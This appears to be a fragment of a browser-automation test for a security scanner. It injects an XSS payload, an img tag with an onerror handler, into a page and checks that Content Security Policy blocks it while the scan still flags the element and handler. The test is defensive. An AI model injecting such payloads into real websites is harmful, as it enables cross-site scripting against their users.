    page.goto(sites.plain + "/")
    payload = f"<img src=x onerror={J}>"
    assert payload in PAYLOADS
    with page.expect_console_message(lambda m: "CSP violation" in m.text):
        page.evaluate(f"document.querySelector('.log').innerHTML = {json.dumps(payload)}")
    report = page.evaluate(SCAN, SCAN_ARGS)
    assert "element <img>" in report["found"]
    assert "handler onerror on <img>" in report["found"]
    assert report["csp"] != [] and report["flag"] is None
    assert tab.dialogs == []  # the CSP stopped it: why the scan and the listener are needed
